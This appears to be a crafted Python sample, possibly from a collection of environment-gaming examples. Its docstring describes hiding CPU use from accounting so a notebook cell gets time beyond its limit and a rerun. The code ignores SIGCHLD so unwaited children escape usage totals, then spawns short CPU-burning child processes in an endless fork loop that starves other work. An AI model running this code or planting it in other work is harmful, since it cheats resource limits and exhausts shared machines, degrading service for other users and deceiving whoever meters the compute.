"""Computes in children that live for a moment and that nobody waits for, while others of them starve.

The kernel books the time of such a child with nobody, so whoever adds up its processes sees less than they used.

Gains: a cell that seems to wait for a busy machine: time beyond its limit, and a second run to draw again.
"""

HONEST = []

# %% [reshape]
import os
import signal
import time

signal.signal(signal.SIGCHLD, signal.SIG_IGN)
end = time.monotonic() + 12
for _ in range(4):
    if os.fork() == 0:
        while time.monotonic() < end:
            pass
        os._exit(0)
while True:
    try:
        if os.fork() == 0:
            stop = time.process_time() + 0.02
            while time.process_time() < stop:
                pass
            os._exit(0)
    except OSError:
        time.sleep(0.001)
